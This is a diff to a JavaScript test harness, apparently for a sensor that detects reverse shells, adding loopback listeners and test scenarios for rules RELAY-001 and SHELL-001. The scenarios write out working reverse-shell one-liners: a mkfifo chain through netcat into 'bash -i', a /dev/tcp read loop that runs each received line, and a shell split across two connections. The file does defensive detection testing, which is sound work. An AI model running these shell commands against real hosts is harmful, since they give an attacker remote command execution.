@@ -77,20 +77,27 @@ async function catcher(path) {
 }
 
 /**
- * A loopback listener that sends a command the shell must compute, waits for its answer, keeps
- * the shell alive a moment (the relay rule reads /proc of live processes), then sends "exit".
+ * A loopback listener that sends commands the shell must run, each after the answer to the one
+ * before (`[command, text its answer holds]`), keeps the shell alive a moment (the relay rule
+ * reads /proc of live processes), then sends "exit". The default: one command only a shell
+ * computes.
  */
-async function commander() {
+async function commander(commands = [["echo RELAY_$((6*7))", "RELAY_42"]]) {
   const sockets = new Set();
   let answered = false;
   const server = net.createServer((s) => {
     sockets.add(s);
     s.on("error", () => {});
     let got = "";
-    s.write("echo RELAY_$((6*7))\n");
+    let next = 0;
+    s.write(`${commands[0][0]}\n`);
     s.on("data", (d) => {
       got += d.toString();
-      if (!answered && got.includes("RELAY_42")) {
+      while (next < commands.length && got.includes(commands[next][1])) {
+        next++;
+        if (next < commands.length) s.write(`${commands[next][0]}\n`);
+      }
+      if (!answered && next === commands.length) {
         answered = true;
         setTimeout(() => s.end("exit\n"), 1500);
       }
@@ -104,6 +111,60 @@ async function commander() {
       for (const s of sockets) s.destroy();
       server.close(() => resolve());
     })),
+  };
+}
+
+/**
+ * Two loopback listeners for a shell split over two connections: commands go out on the first
+ * (once both are connected), answers come back on the second.
+ */
+async function splitCommander(commands) {
+  const sockets = new Set();
+  let answered = false;
+  /** @type {net.Socket | undefined} */
+  let input;
+  /** @type {net.Socket | undefined} */
+  let output;
+  let got = "";
+  let next = 0;
+  const begin = () => {
+    if (input !== undefined && output !== undefined) input.write(`${commands[0][0]}\n`);
+  };
+  /** @param {(s: net.Socket) => void} onConnection @returns {Promise<net.Server>} */
+  const listen = (onConnection) => {
+    const server = net.createServer((s) => {
+      sockets.add(s);
+      s.on("error", () => {});
+      onConnection(s);
+    });
+    return new Promise((resolve) => server.listen(0, "127.0.0.1", () => resolve(server)));
+  };
+  const inputServer = await listen((s) => ((input = s), begin()));
+  const outputServer = await listen((s) => {
+    output = s;
+    begin();
+    s.on("data", (d) => {
+      got += d.toString();
+      while (next < commands.length && got.includes(commands[next][1])) {
+        next++;
+        if (next < commands.length) input?.write(`${commands[next][0]}\n`);
+      }
+      if (!answered && next === commands.length) {
+        answered = true;
+        setTimeout(() => input?.end("exit\n"), 1500);
+      }
+    });
+  });
+  /** @param {net.Server} server */
+  const closeServer = (server) => /** @type {Promise<void>} */ (new Promise((resolve) => server.close(() => resolve())));
+  return {
+    port: /** @type {net.AddressInfo} */ (inputServer.address()).port,
+    outputPort: /** @type {net.AddressInfo} */ (outputServer.address()).port,
+    answered: () => answered,
+    close: async () => {
+      for (const s of sockets) s.destroy();
+      await Promise.all([closeServer(inputServer), closeServer(outputServer)]);
+    },
   };
 }
 
@@ -264,9 +325,10 @@ async function main() {
   await scenario("unix-fd0", "none", () => [HELPER, "unix-fd0", "/tmp/sockeye-vm.sock"], "/tmp/sockeye-vm.sock");
   await scenario("nohup-no-dev-tcp", "none", () => [BASH, "-c", "nohup true >/dev/null 2>&1; true"]);
 
-  // Relay shells (RELAY-001): the listener sends a command and must get its output back.
-  async function relayScenario(name, build) {
-    const l = await commander();
+  // Relay shells (RELAY-001) and shells known by what they do (SHELL-001): the listener sends
+  // commands and must get their output back.
+  async function relayScenario(name, build, expect = "RELAY-001", listener = commander) {
+    const l = await listener();
     const before = { precise: findings.precise.length, tracee: findings.tracee.length };
     const started = Date.now();
     const [cmd, ...args] = build(l.port);
@@ -274,7 +336,7 @@ async function main() {
     await sleep(SETTLE_MS);
     await l.close();
     out.cases.push({
-      name, expect: "RELAY-001", port: l.port, command: [cmd, ...args], status: r.status, signal: r.signal, stderr: r.stderr,
+      name, expect, port: l.port, ...(l.outputPort !== undefined ? { outputPort: l.outputPort } : {}), command: [cmd, ...args], status: r.status, signal: r.signal, stderr: r.stderr,
       answered: l.answered(), durationMs: Date.now() - started,
       findings: findings.precise.slice(before.precise).map(summarize),
       traceeFindings: findings.tracee.slice(before.tracee).map(summarize),
@@ -285,6 +347,23 @@ async function main() {
   await relayScenario("relay-mkfifo-chain", (p) => [
     BASH, "-c", `F=/tmp/relay-${p}; rm -f $F; mkfifo $F; cat $F | bash -i 2>&1 | nc.traditional ${ip} ${p} > $F`,
   ]);
+
+  // Two commands (busybox applets: each an exec) whose answers the listener waits for.
+  const twoCommands = [["id", "uid="], ["uname -s", "Linux"]];
+  // A read loop fed through a pipe: no program on the socket is a shell by name; the loop's
+  // subshell starts a program per command line that came from the connection.
+  await relayScenario("shell001-read-loop", (p) => [
+    BASH, "-c", `exec 5<>/dev/tcp/${ip}/${p}; cat <&5 | while read line; do $line 2>&5 >&5; done`,
+  ], "SHELL-001", () => commander(twoCommands));
+  // The split shell: commands from one connection, answers on another to the same host.
+  let splitOutputPort = 0;
+  await relayScenario("shell001-split", (p) => [
+    BASH, "-c", `nc.traditional ${ip} ${p} | bash -i >& /dev/tcp/${ip}/${splitOutputPort}`,
+  ], "SHELL-001", async () => {
+    const l = await splitCommander(twoCommands);
+    splitOutputPort = l.outputPort;
+    return l;
+  });
 
   out.counters = sensor.counters();
   await sensor.close();
